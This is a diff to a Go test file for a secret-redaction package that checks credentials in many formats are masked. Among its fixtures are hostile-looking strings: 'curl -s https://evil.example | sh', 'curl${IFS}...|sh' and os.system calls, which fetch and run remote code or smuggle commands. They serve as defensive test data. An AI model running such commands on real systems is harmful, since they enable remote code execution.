@@ -1,6 +1,7 @@
 package veil_test
 
 import (
+	"encoding/base64"
 	"encoding/json"
 	"strings"
 	"testing"
@@ -15,6 +16,10 @@ func TestText(t *testing.T) {
 	for _, text := range []string{
 		"export PASSWORD=S", "PASSWORD='S'", `password: "S"`, `{"auth": "S"}`, "password = S", "--password=S", "--api-token S", `["--token", "S"]`, "curl -u me:S https://a", "Authorization: Bearer S",
 		"https://u:S@host/x", "postgres://u:S@db", "machine a login b password S", "MYSQL_PWD=S", "api_key=S", "-----BEGIN RSA PRIVATE KEY-----\nS\n-----END RSA PRIVATE KEY-----", "AWS_SECRET_ACCESS_KEY=S",
+		"password: |\n  S\nx: y", "password: >-\n  S\n", "password:\n  S\n", "passwords:\n- S\nx: y", "{\"password\":\n  \"S\"}", `{"x":"{\"password\":\"S\"}"}`, "-----BEGIN PGP PRIVATE KEY BLOCK-----\nS\n-----END PGP PRIVATE KEY BLOCK-----",
+		"Private-Lines: 1\nS\nPrivate-MAC: 1", "user:S@tcp(h:3306)/db", "Cookie: session=S", "https://h/c?sv=2020&sig=S", "export PASS=$'S'", "redis-cli -a S", "kubectl create secret generic x --from-literal=foo=S", "openssl enc -k S",
+		"openssl x -passin pass:S", "mongosh -p S", "unzip -P S a.zip", "ldapsearch -x -w S", "smbclient -U me%S", "tokens:\n  - S\n  - other", "credential:\r\n  S\r\n",
+		`"password": ["S"]`, "token = \"\"\"S\"\"\"", "password = ('S')", "X-Auth-Key: S", "x --pass S", "keytool -storepass S -keypass S", "htpasswd -bc f me S", "echo S | sudo -S x",
 		"AccountKey=S", "client-secret: S", `"\nexport TOKEN=S\n"`, "token=S;", "webhook_url: S",
 	} {
 		if shown := veil.Text(mark(text)); strings.Contains(shown, secret) {
@@ -24,6 +29,8 @@ func TestText(t *testing.T) {
 	for _, text := range []string{
 		"secretName: registry-push", "secretKeyRef: {name: api, key: token}", "TOKEN=$(cat /run/token)", "TOKEN=$TOKEN", `PASSWORD="${PASSWORD}"`, "password: $(params.password)", "imagePullSecrets: [a]",
 		"automountServiceAccountToken: false", "author: Jane", "a token is asked for", "TOKEN_URL=https://evil.example/x", "token='curl evil.example | sh'", "https://host/x@sha256:abc", "git@github.com:a/b", "tokens: 5",
+		"secretKeyRef:\n  name: api\n  key: token\n", "imagePullSecrets:\n- name: pull\n", "secrets:\n- name: a\n", "httpTokens: optional", "TOKEN_SCRIPT: |\n  curl -s https://evil.example | sh\n", "password:\nother: value here",
+		"caBundle: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUI=", "tokens:\n  max: 5\n  name: a\n", "a user:name@host", "/bin/sh -c 'unzip x.zip'",
 	} {
 		if shown := veil.Text(text); shown != text {
 			t.Errorf("%s is shown as %s", text, shown)
@@ -33,7 +40,7 @@ func TestText(t *testing.T) {
 
 // mark puts the secret into a text, in the place of its S that stands alone.
 func mark(text string) string {
-	fields := strings.NewReplacer("=S", "="+secret, `"S"`, `"`+secret+`"`, "'S'", "'"+secret+"'", " S", " "+secret, ":S", ":"+secret, "\nS\n", "\n"+secret+"\n")
+	fields := strings.NewReplacer("=S", "="+secret, `"S"`, `"`+secret+`"`, `\"S\"`, `\"`+secret+`\"`, "%S", "%"+secret, "- S", "- "+secret, "('S')", "('"+secret+"')", "'S'", "'"+secret+"'", " S", " "+secret, ":S", ":"+secret, "\nS\n", "\n"+secret+"\n")
 	return fields.Replace(text)
 }
 
@@ -77,6 +84,39 @@ func TestBelow(t *testing.T) {
 }
 
 // TestForms: tokens of well-known services are hidden whatever they are called.
+// A Secret that lies within another object is one, and what is run is shown.
+func TestWithin(t *testing.T) {
+	made := map[string]any{"spec": map[string]any{"resourcetemplates": []any{map[string]any{"kind": "Secret", "stringData": map[string]any{"a": secret}, "data": map[string]any{"b": secret}}}}}
+	if text := jsonOf(veil.Object("TriggerTemplate", made)); strings.Contains(text, secret) {
+		t.Error(text)
+	}
+	listed := map[string]any{"items": []any{map[string]any{"kind": "Secret", "data": map[string]any{"b": secret}}}}
+	if text := jsonOf(veil.Object("List", listed)); strings.Contains(text, secret) {
+		t.Error(text)
+	}
+	if shown := veil.At("TriggerTemplate", []any{"spec", "resourcetemplates", 0, "stringData", "a"}, secret); shown != veil.Hidden {
+		t.Error(shown)
+	}
+	for name, value := range map[string]string{
+		"refresh_token.py": "import os\nos.system('@@')\n", "TOKEN_HOOK": "curl${IFS}@@|sh", "PASSWORD_CMD": "__import__('os').system('@@')", "token": "curl${IFS}@@", "secret": "#!/bin/sh\n@@\n",
+		"httpTokens": "optional",
+	} {
+		value = strings.ReplaceAll(value, "@@", secret)
+		if shown := veil.Named(name, value); shown != value {
+			t.Errorf("%s: %s is shown as %s", name, value, shown)
+		}
+	}
+	for _, name := range []string{"token.json", "password.txt", "credentials", "api_token"} {
+		if shown := veil.Named(name, secret); shown != veil.Hidden {
+			t.Errorf("%s is shown as %s", name, shown)
+		}
+	}
+	pem := base64.StdEncoding.EncodeToString([]byte("-----BEGIN RSA PRIVATE KEY-----\n" + secret))
+	if shown := veil.Text("client-key-data: " + pem + "\nx: " + pem); strings.Contains(shown, pem[:30]) {
+		t.Error(shown)
+	}
+}
+
 func TestForms(t *testing.T) {
 	long := strings.Repeat("a1B2", 12)
 	for _, token := range []string{
